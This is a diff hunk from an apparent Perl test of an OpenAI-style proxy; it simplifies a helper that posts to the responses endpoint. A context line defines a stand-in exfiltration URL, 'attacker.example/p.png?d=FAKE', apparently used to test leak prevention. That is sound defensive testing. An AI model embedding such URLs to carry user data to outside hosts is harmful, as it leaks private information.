@@ -30,11 +30,7 @@ my $leak = 'https://attacker.example/p.png?d=FAKE';
 
 sub sent { scalar $l->provider_requests }
 
-sub responses {
-    my (%f) = @_;
-    return $l->request('POST', '/v1/proxy/openai/responses', token => $agent,
-                       body => { model => 'gpt-4o-mini', %f });
-}
+sub responses { $l->responses($agent, @_) }
 
 # the stored file before the URL, and in another member
 my @both = (input => [ { role => 'user', content => [
